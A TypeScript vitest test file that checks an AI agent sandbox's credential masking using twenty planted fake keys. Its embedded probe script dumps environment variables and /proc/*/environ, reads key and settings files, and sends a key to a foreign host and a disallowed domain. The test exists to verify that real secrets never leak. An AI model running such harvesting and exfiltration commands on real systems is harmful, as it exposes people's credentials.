// The whole of it with the built command: a real sandbox, a real host with a certificate, and keys that nobody inside holds.
import { globSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, expect, test } from "vitest";
import { reply, toolUse } from "../../keel/src/testing/reply.ts";
import { notRunHere } from "../support/not-run.ts";
import { openHost, testAuthority } from "../support/proxy-stage.ts";
import { verifies } from "../support/verifies.ts";
import { openStage, type Stage } from "./stage.ts";

const closing: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0)) await close();
});

const secrets = Array.from({ length: 20 }, (_, at) => `planted-${at}-${"qwertz".repeat(3)}${at * 104_729}`);
const names = secrets.map((_, at) => `KEY_${at}`);

/** Looks wherever a key could be found inside, then uses each. */
const script = (port: number, foreign: number): string =>
  [
    "env; set; cat /proc/self/environ; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; ps -ef 2>/dev/null",
    "cat .key ../*/.keel/settings.json ~/.keel/settings.json 2>&1; ls -R /tmp 2>/dev/null",
    ...names.map(
      (name) =>
        `curl -sS --noproxy '' -i -H "Authorization: Bearer $${name}" https://localhost:${port}/${name}`,
    ),
    `curl -sS --noproxy '' -i -H "X-Key: $KEY_0" http://localhost:${foreign}/elsewhere`,
    "curl -sS --max-time 5 https://not.allowed.example/ 2>&1; true",
  ].join("\n");

async function confinedStage(text: string, { port }: { port: number }): Promise<Stage> {
  const call = toolUse("Bash", { command: "bash look.sh" });
  const stage = await openStage({ replies: [reply(call), reply("done")] });
  writeFileSync(path.join(stage.project, "look.sh"), text);
  writeFileSync(path.join(stage.project, ".key"), `${secrets[19]}\n`);
  writeFileSync(path.join(stage.project, "tests.pem"), testAuthority.cert);
  mkdirSync(stage.home, { recursive: true });
  const envVars = names.map((name, at) => ({
    name,
    mode: "mask",
    injectHosts: [`localhost:${port}`],
    ...(at === 19 ? { file: path.join(stage.project, ".key") } : {}),
  }));
  const network = { allowedDomains: ["localhost"] };
  const sandbox = { enabled: true, failIfUnavailable: true, network, credentials: { envVars } };
  writeFileSync(path.join(stage.home, "settings.json"), JSON.stringify({ sandbox }));
  return stage;
}

test("no command, log or request holds a byte of twenty keys, and their host gets each of them", async () => {
  verifies("P44", "S2.48");
  const answered: Parameters<typeof openHost>[0] = (asked, answer) =>
    answer.end(JSON.stringify(asked.headers));
  const own = await openHost(answered, { secure: "localhost", address: "127.0.0.1" });
  const foreign = await openHost(answered, { address: "127.0.0.1" });
  closing.push(own.close, foreign.close);
  const stage = await confinedStage(script(own.port, foreign.port), own);
  const env = Object.fromEntries(names.slice(0, 19).map((name, at) => [name, secrets[at] ?? ""]));
  const ran = await stage.run(
    ["-p", "go", "--output-format", "stream-json", "--verbose", "--allowed-tools", "Bash(bash look.sh)"],
    {
      env: { ...env, SSL_CERT_FILE: path.join(stage.project, "tests.pem") },
    },
  );
  if (ran.stderr.includes("sandbox") && ran.code === 78)
    return notRunHere("keys in a sandbox", "no namespaces");
  expect(ran.stderr).toBe("");
  expect(ran.code).toBe(0);
  expect(own.seen.map(({ headers }) => headers.authorization)).toEqual(secrets.map((one) => `Bearer ${one}`));
  expect(foreign.seen.map(({ headers }) => headers["x-key"])).toEqual([
    expect.stringMatching(/^keel_placeholder_/),
  ]);
  const said = JSON.stringify(stage.server.requests);
  // All that it looked at did come: otherwise this shows nothing.
  expect(said).toMatch(/KEY_7=keel_placeholder_/);
  expect(said).toContain("not.allowed.example");
  const kept = globSync("**/*", {
    cwd: path.dirname(stage.home),
    exclude: (name) => name === "settings.json",
  })
    .map((name) => path.join(path.dirname(stage.home), name))
    .filter((file) => statSync(file).isFile() && path.basename(file) !== ".key");
  expect(kept.length).toBeGreaterThan(0);
  const everywhere = [ran.stdout, ran.stderr, said, ...kept.map((file) => readFileSync(file, "latin1"))];
  for (const text of everywhere) expect(text.includes("planted-")).toBe(false);
});
